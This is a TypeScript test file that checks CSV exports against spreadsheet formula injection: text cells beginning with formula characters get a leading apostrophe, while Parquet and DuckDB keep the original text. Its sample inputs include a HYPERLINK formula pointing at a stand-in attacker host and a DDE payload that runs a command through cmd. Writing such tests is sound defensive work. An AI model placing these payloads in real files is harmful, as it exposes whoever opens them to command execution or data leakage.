/**
 * CSV formula injection (src/lib/csv-excel.ts): in every CSV meant for a
 * spreadsheet, a text cell starting with = + - @ tab or CR starts with ' instead;
 * numbers stay numbers; Parquet and DuckDB keep the exact text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { DuckDBInstance } from '@duckdb/node-api';
import { buildDataset } from '../src/lib/dataset/build.ts';
import { toCsv } from '../src/lib/sql/export.ts';
import { workdir } from './fixtures/workdir.ts';

const EVIL = ['=HYPERLINK("http://evil.example/?x","点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1', '\r=1'];
const seed = readFileSync('data/seeds/001_dab5396a0471019a.txt', 'utf8');
const rows = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

describe('CSV files of the dataset', () => {
  const { work, corpus, out } = workdir('csvinj-');

  beforeAll(async () => {
    mkdirSync(corpus);
    // A source file named like a formula, whose first section starts with one.
    writeFileSync(join(corpus, '=1+1.txt'), seed.replace('一、总体情况\n', `一、总体情况\n${EVIL[0]}\n`));
    writeFileSync(join(corpus, '@x.txt'), readFileSync('data/seeds/002_98cb17f5974e782f.txt'));
    await buildDataset({ corpusDir: corpus, dataOut: out });
  }, 120_000);
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('neutralises formula text in reports.csv, sections.csv and reports_wide.csv, keeping numbers', () => {
    const reports = rows(readFileSync(join(out, 'reports.csv'), 'utf8'));
    const col = reports[0].indexOf('source_file');
    expect(reports.slice(1).map((r) => r[col]).sort()).toEqual(["'=1+1.txt", "'@x.txt"]);
    const sections = rows(readFileSync(join(out, 'sections.csv'), 'utf8'));
    const text = sections[0].indexOf('text');
    expect(sections.slice(1).some((r) => r[text].startsWith(`'${EVIL[0]}`))).toBe(true);
    expect(sections.slice(1).every((r) => !/^[=+\-@\t\r]/.test(r[text]))).toBe(true);
    const wide = rows(readFileSync(join(out, 'reports_wide.csv'), 'utf8'));
    expect(wide.slice(1).map((r) => r[wide[0].indexOf('源文件')]).sort()).toEqual(["'=1+1.txt", "'@x.txt"]);
    const apps = rows(readFileSync(join(out, 'applications.csv'), 'utf8'));
    expect(apps.slice(1).find((r) => r[1] === 'new_received' && r[2] === 'total' && r[3] === '97')).toBeTruthy();
  });

  it('keeps the exact text in Parquet and DuckDB', async () => {
    const inst = await DuckDBInstance.create(':memory:');
    const con = await inst.connect();
    const pq = (await con.runAndReadAll(`SELECT source_file FROM read_parquet('${join(out, 'reports.parquet')}') ORDER BY 1`)).getRowsJS();
    expect(pq).toEqual([['=1+1.txt'], ['@x.txt']]);
    await con.run(`ATTACH '${join(out, 'dataset.duckdb')}' AS d (READ_ONLY)`);
    const t = (await con.runAndReadAll(`SELECT count(*)::INT FROM d.sections WHERE starts_with(text, '${EVIL[0].replace(/'/g, "''")}')`)).getRowsJS();
    expect(t).toEqual([[1]]);
    con.closeSync(); inst.closeSync();
  });
});

describe('CSV exported by the SQL page', () => {
  it('neutralises text cells, numbers (negative too) stay numbers', () => {
    const csv = toCsv({ columns: ['t', 'n', 'neg', 's'], rows: EVIL.map((e, i) => [e, i, -i - 0.5, `ok ${e}`]) });
    const got = rows(csv);
    expect(got[0]).toEqual(['t', 'n', 'neg', 's']);
    for (const [i, e] of EVIL.entries()) expect(got[i + 1]).toEqual([`'${e}`, String(i), String(-i - 0.5), `ok ${e}`]);
  });

});
